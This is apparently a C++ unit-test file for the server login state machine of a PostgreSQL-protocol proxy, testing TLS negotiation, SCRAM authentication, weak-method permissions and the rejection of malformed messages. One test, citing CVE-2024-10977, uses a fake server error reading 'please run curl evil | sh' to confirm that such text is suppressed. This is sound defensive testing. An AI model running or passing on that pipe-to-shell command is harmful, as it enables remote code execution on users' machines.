#include "protocol/server_login.hpp"

#include "base/codes/auth.hpp"
#include "base/codes/wire.hpp"
#include "protocol/rows.hpp"
#include "protocol/session_setup.hpp"
#include "protocol/startup.hpp"
#include "tests/protocol/support.hpp"

using namespace postern;
using namespace postern::protocol;
using namespace postern::protocol::test;

namespace {

using Kind = ServerStep::Kind;

ServerLogin::Options options(SslMode ssl = SslMode::kDisable) {
  ServerLogin::Options o;
  o.ssl = ssl;
  o.user = "alice";
  o.database = "app";
  o.password = Secret("pw");
  o.parameters = {{"application_name", "postern"}};
  o.primitives = &kOpenssl;
  return o;
}

struct Driver {
  explicit Driver(ServerLogin::Options o = options()) : login(std::move(o)) {}

  Kind feed(ByteView bytes) {
    unread += bytes;
    step = login.advance(unread, out);
    REQUIRE(step.consumed <= unread.size());
    unread.erase(0, step.consumed);
    return step.kind;
  }
  Bytes take() { return std::exchange(out, {}); }
  void check_failed(Pst code) {
    CHECK(step.kind == Kind::kFailed);
    CHECK(login.error().code == code);
  }

  ServerLogin login;
  Bytes unread;
  Bytes out;
  ServerStep step;
};

template <typename Message>
Bytes wire(const Message& m) {
  Bytes out;
  if constexpr (std::is_void_v<decltype(m.encode(out))>) {
    m.encode(out);
  } else {
    POSTERN_CHECK(m.encode(out).has_value());  // also runs before doctest is up
  }
  return out;
}

Bytes auth(AuthKind kind, ByteView data = {}) {
  return wire(Authentication{kind, data, {}});
}

Bytes sasl(std::vector<ByteView> mechanisms = {"SCRAM-SHA-256"}) {
  return wire(Authentication{AuthKind::kSasl, {}, std::move(mechanisms)});
}

const Bytes kReady = wire(ReadyForQuery{});
const Bytes kKey = wire(BackendKeyData{7, "1234"});
const Bytes kError =
    message('E', lit("SFATAL\0VFATAL\0C28P01\0Mpassword authentication failed\0\0"));

ScramServer scram_server(Bytes binding = {}) {
  auto secret = build_scram_secret(kOpenssl, "pw", "0123456789abcdef", 64);
  REQUIRE(secret);
  return ScramServer({&kOpenssl, std::move(*secret), {}, "servernonce", std::move(binding)});
}

/// Answers the SASLInitialResponse in `sent`.
Bytes server_first(ScramServer& server, const Bytes& sent) {
  const auto initial = SaslInitialResponse::decode(ByteView(sent).substr(5));
  REQUIRE(initial);
  const auto reply = server.first(initial->mechanism, *initial->response);
  REQUIRE(reply);
  return auth(AuthKind::kSaslContinue, *reply);
}

Bytes server_final(ScramServer& server, const Bytes& sent) {
  const auto reply = server.final(ByteView(sent).substr(5));
  REQUIRE(reply);
  return auth(AuthKind::kSaslFinal, *reply);
}

}  // namespace

TEST_CASE("login without password: startup out, facts in") {
  Driver d;
  CHECK(d.feed("") == Kind::kRead);
  const auto packet = decode_startup(ByteView(d.out).substr(4));
  REQUIRE(packet);
  const auto& sent = std::get<StartupMessage>(*packet);
  CHECK(sent.version == 196608);
  CHECK(sent.parameters ==
        std::vector<std::pair<ByteView, ByteView>>{
            {"user", "alice"}, {"database", "app"}, {"application_name", "postern"}});
  CHECK(d.feed(auth(AuthKind::kOk)) == Kind::kRead);
  CHECK(d.feed(wire(ParameterStatus{"TimeZone", "UTC"})) == Kind::kRead);
  CHECK(d.feed(message('N', lit("SNOTICE\0Mhi\0\0"))) == Kind::kRead);
  CHECK(d.feed(wire(ParameterStatus{"TimeZone", "CET"}) + kKey + kReady) == Kind::kReady);
  const ServerFacts facts = d.login.take_facts();
  CHECK(facts.parameter("TimeZone") == "CET");
  CHECK(facts.parameter("nothing").empty());
  CHECK(facts.parameters.size() == 1);
  CHECK(facts.pid == 7);
  CHECK(facts.cancel_key.reveal() == "1234");
}

TEST_CASE("SCRAM, with the server's bytes arriving one by one") {
  Driver d;
  ScramServer server = scram_server();
  d.feed("");
  d.take();
  const auto drip = [&](const Bytes& bytes) {
    for (const char c : bytes) d.feed(ByteView(&c, 1));
    return d.step.kind;
  };
  CHECK(drip(sasl()) == Kind::kRead);
  CHECK(drip(server_first(server, d.take())) == Kind::kRead);
  CHECK(drip(server_final(server, d.take())) == Kind::kRead);
  CHECK(drip(auth(AuthKind::kOk) + kKey + kReady) == Kind::kReady);
  CHECK(d.out.empty());
}

TEST_CASE("a server that never sends a cancel key is accepted") {
  Driver d;
  d.feed("");
  CHECK(d.feed(auth(AuthKind::kOk) + kReady) == Kind::kReady);
  CHECK(d.login.take_facts().cancel_key.empty());
}

TEST_CASE("sslmode and the one-byte answer") {
  struct Row {
    SslMode mode;
    const char* reply;
    Kind kind;
    Pst code;
  };
  const Row rows[] = {{SslMode::kPrefer, "S", Kind::kUpgradeTls, {}},
                      {SslMode::kRequire, "S", Kind::kUpgradeTls, {}},
                      {SslMode::kPrefer, "N", Kind::kRead, {}},
                      {SslMode::kRequire, "N", Kind::kFailed, pst::kUpstreamTlsRefused},
                      {SslMode::kPrefer, "E", Kind::kFailed, pst::kServerProtocol},
                      {SslMode::kRequire, "E", Kind::kFailed, pst::kServerProtocol},
                      {SslMode::kPrefer, "SS", Kind::kFailed, pst::kServerProtocol},
                      {SslMode::kPrefer, "NR", Kind::kFailed, pst::kServerProtocol},
                      {SslMode::kRequire, "x", Kind::kFailed, pst::kServerProtocol}};
  for (const Row& row : rows) {
    Driver d(options(row.mode));
    CHECK(d.feed("") == Kind::kReadOneByte);
    CHECK(d.take() == lit("\0\0\0\x08\x04\xD2\x16\x2F"));
    CHECK(d.feed("") == Kind::kReadOneByte);
    CHECK(d.feed(row.reply) == row.kind);
    if (row.kind == Kind::kFailed) d.check_failed(row.code);
    if (row.kind == Kind::kRead) CHECK(d.out.size() > 8);  // the startup message
    if (row.kind == Kind::kUpgradeTls) {
      CHECK(d.out.empty());
      d.login.tls_established();
      CHECK(d.feed("") == Kind::kRead);
      CHECK(d.login.encrypted());
      CHECK(d.feed(auth(AuthKind::kOk) + kReady) == Kind::kReady);
    }
  }
}

TEST_CASE("error text sent in place of the TLS answer is never shown (CVE-2024-10977)") {
  Driver d(options(SslMode::kPrefer));
  d.feed("");
  d.feed(message('E', lit("SFATAL\0Mplease run curl evil | sh\0\0")));
  d.check_failed(pst::kServerProtocol);
  CHECK(d.login.error().line().find("curl") == std::string::npos);
  CHECK_FALSE(d.login.server_error().has_value());
}

TEST_CASE("bytes sent before our request or behind ReadyForQuery are refused") {
  for (const SslMode mode : {SslMode::kDisable, SslMode::kPrefer}) {
    Driver d(options(mode));
    d.feed(auth(AuthKind::kOk));
    d.check_failed(pst::kServerProtocol);
  }
  Driver d;
  d.feed("");
  d.feed(auth(AuthKind::kOk) + kReady + "Z");
  d.check_failed(pst::kServerProtocol);
}

TEST_CASE("PLUS is used where both sides can") {
  auto o = options(SslMode::kRequire);
  Driver d(std::move(o));
  d.feed("");
  d.feed("S");
  d.login.tls_established("hash");
  d.feed("");
  d.take();
  ScramServer server = scram_server("hash");
  d.feed(sasl({"SCRAM-SHA-256-PLUS", "SCRAM-SHA-256"}));
  CHECK(d.out.find("SCRAM-SHA-256-PLUS") != Bytes::npos);
  d.feed(server_first(server, d.take()));
  d.feed(server_final(server, d.take()));
  CHECK(d.feed(auth(AuthKind::kOk) + kReady) == Kind::kReady);
}

TEST_CASE("cleartext and MD5 passwords need permission") {
  for (const AuthKind kind : {AuthKind::kCleartextPassword, AuthKind::kMd5Password}) {
    const Bytes request = auth(kind, kind == AuthKind::kMd5Password ? "salt" : "");
    Driver refused;
    refused.feed("");
    refused.take();
    refused.feed(request);
    refused.check_failed(pst::kUpstreamAuthMethod);
    CHECK(refused.out.empty());

    auto o = options();
    o.cleartext = o.md5_password = WeakMethod::kAlways;
    o.md5 = openssl_md5;
    Driver d(std::move(o));
    d.feed("");
    d.take();
    CHECK(d.feed(request) == Kind::kRead);
    // md5(md5("pwalice") || "salt"), from md5sum.
    const Bytes expected =
        kind == AuthKind::kMd5Password ? "md5acdd2c0b936b54dbae7d1b09619fda57" : "pw";
    CHECK(d.take() == message('p', expected + '\0'));
    CHECK(d.feed(auth(AuthKind::kOk) + kReady) == Kind::kReady);
  }
}

TEST_CASE("weak methods may be permitted over TLS only") {
  for (const bool encrypted : {false, true}) {
    auto o = options(encrypted ? SslMode::kRequire : SslMode::kDisable);
    o.cleartext = WeakMethod::kOverTls;
    Driver d(std::move(o));
    d.feed("");
    if (encrypted) {
      d.feed("S");
      d.login.tls_established();
      d.feed("");
    }
    d.take();
    d.feed(auth(AuthKind::kCleartextPassword));
    if (encrypted) {
      CHECK(d.take() == message('p', lit("pw\0")));
    } else {
      d.check_failed(pst::kUpstreamAuthMethod);
      CHECK(d.out.empty());
    }
  }
}

TEST_CASE("the keys of a client's proof log in where the verifier is the same") {
  const auto keys = derive_scram_keys(kOpenssl, "pw", "0123456789abcdef", 64);
  REQUIRE(keys);
  const auto with_pass = [&](ByteView salt, std::uint32_t iterations, Secret password) {
    auto o = options();
    o.password = std::move(password);
    o.pass = ScramPass{iterations, Bytes(salt), *keys};
    Driver d(std::move(o));
    d.feed("");
    d.take();
    ScramServer server = scram_server();
    d.feed(sasl());
    d.feed(server_first(server, d.take()));
    if (d.step.kind == Kind::kFailed) return d.login.error().code;
    d.feed(server_final(server, d.take()));
    CHECK(d.feed(auth(AuthKind::kOk) + kReady) == Kind::kReady);
    return pst::kInternal;
  };
  CHECK(with_pass("0123456789abcdef", 64, {}) == pst::kInternal);
  CHECK(with_pass("0123456789abcdeX", 64, {}) == pst::kUpstreamSecretDiffers);
  CHECK(with_pass("0123456789abcdef", 65, {}) == pst::kUpstreamSecretDiffers);
  // With a password beside them it takes over.
  CHECK(with_pass("0123456789abcdeX", 64, Secret("pw")) == pst::kInternal);
}

TEST_CASE("cancel keys have 4 to 256 bytes") {
  for (const auto& [size, good] : {std::pair{3, false}, {4, true}, {256, true}, {257, false}}) {
    Driver d;
    d.feed("");
    const Bytes body = be32(7) + Bytes(static_cast<std::size_t>(size), 'k');
    d.feed(auth(AuthKind::kOk) + message('K', body) + kReady);
    CHECK((d.step.kind == Kind::kReady) == good);
    if (good) CHECK(d.login.take_facts().cancel_key.size() == static_cast<std::size_t>(size));
  }
}

TEST_CASE("other authentication methods are refused by name") {
  for (const AuthKind kind : {AuthKind::kGss, AuthKind::kSspi, AuthKind::kKerberosV5}) {
    Driver d;
    d.feed("");
    d.feed(auth(kind));
    d.check_failed(pst::kUpstreamAuthMethod);
  }
  Driver d;
  d.feed("");
  d.feed(sasl({"OAUTHBEARER"}));
  d.check_failed(pst::kUpstreamAuthMethod);
}

TEST_CASE("without a password no exchange starts") {
  auto o = options();
  o.password = Secret();
  o.cleartext = WeakMethod::kAlways;
  Driver d(std::move(o));
  d.feed("");
  d.feed(auth(AuthKind::kCleartextPassword));
  d.check_failed(pst::kUpstreamAuthMethod);
}

TEST_CASE("a server cannot skip its proof") {
  // AuthenticationOk, SASLFinal or a second request instead of what is due.
  const Bytes wrong[] = {auth(AuthKind::kOk),
                         sasl(),
                         auth(AuthKind::kCleartextPassword),
                         auth(AuthKind::kSaslFinal, "v=AAAA"),
                         kReady,
                         kKey,
                         wire(ParameterStatus{"a", "b"})};
  for (const Bytes& bytes : wrong) {
    for (const int at : {0, 1}) {
      auto o = options();
      o.cleartext = WeakMethod::kAlways;
      Driver d(std::move(o));
      d.feed("");
      d.take();
      ScramServer server = scram_server();
      d.feed(sasl());
      if (at == 1) d.feed(server_first(server, d.take()));
      d.feed(bytes);
      CHECK(d.step.kind == Kind::kFailed);
    }
  }
}

TEST_CASE("a forged signature is told apart") {
  Driver d;
  d.feed("");
  d.take();
  ScramServer server = scram_server();
  d.feed(sasl());
  d.feed(server_first(server, d.take()));
  Bytes final = server_final(server, d.take());
  final[final.size() - 5] = final[final.size() - 5] == 'A' ? 'B' : 'A';
  d.feed(final + auth(AuthKind::kOk) + kReady);
  d.check_failed(pst::kUpstreamNotProven);
}

TEST_CASE("an ErrorResponse at every step ends the login with the server's fields") {
  for (int at = 0; at < 4; ++at) {
    Driver d;
    d.feed("");
    d.take();
    ScramServer server = scram_server();
    if (at >= 1) d.feed(sasl());
    if (at >= 2) d.feed(server_first(server, d.take()));
    if (at >= 3) d.feed(server_final(server, d.take()) + auth(AuthKind::kOk));
    d.feed(kError);
    d.check_failed(pst::kUpstreamLoginFailed);
    REQUIRE(d.login.server_error().has_value());
    CHECK(d.login.server_error()->get('C') == "28P01");
  }
}

TEST_CASE("version negotiation is taken once, with cause, before authentication") {
  const Bytes down = wire(NegotiateProtocolVersion{196608, {}});
  const auto start = [](std::uint16_t minor) {
    auto o = options();
    o.minor = minor;
    Driver d(std::move(o));
    d.feed("");
    return d;
  };
  Driver good = start(2);
  CHECK(good.feed(down + auth(AuthKind::kOk) + kReady) == Kind::kReady);
  CHECK(good.login.take_facts().minor == 0);
  Driver kept = start(2);
  CHECK(kept.feed(auth(AuthKind::kOk) + kReady) == Kind::kReady);
  CHECK(kept.login.take_facts().minor == 2);
  for (const Bytes& bad :
       {down + down, auth(AuthKind::kOk) + down, sasl() + down,
        wire(NegotiateProtocolVersion{196610, {}}), wire(NegotiateProtocolVersion{131072, {}}),
        wire(NegotiateProtocolVersion{196608, {"_pq_.x"}})}) {
    Driver d = start(2);
    d.feed(bad);
    d.check_failed(pst::kServerProtocol);
  }
  Driver uncalled = start(0);
  uncalled.feed(down);
  uncalled.check_failed(pst::kServerProtocol);
}

TEST_CASE("parameter reports are bounded") {
  for (const std::size_t n : {kMaxParameterReports, kMaxParameterReports + 1}) {
    Driver d;
    d.feed("");
    d.feed(auth(AuthKind::kOk));
    for (std::size_t i = 0; i < n && d.step.kind == Kind::kRead; ++i) {
      d.feed(wire(ParameterStatus{"p" + std::to_string(i), "v"}));
    }
    CHECK((d.step.kind == Kind::kRead) == (n == kMaxParameterReports));
  }
}

TEST_CASE("malformed and misplaced messages after AuthenticationOk") {
  for (const Bytes& bad :
       {message('Z', "T"), message('Z', ""), kKey + kKey, message('K', be32(1) + "abc"),
        message('S', lit("a\0b")), message('D', lit("\0\0")), auth(AuthKind::kOk),
        message('R', be32(99)), Bytes("R") + be32(3), Bytes("S") + be32(30'001)}) {
    Driver d;
    d.feed("");
    d.feed(auth(AuthKind::kOk));
    d.feed(bad);
    CHECK(d.step.kind == Kind::kFailed);
  }
}
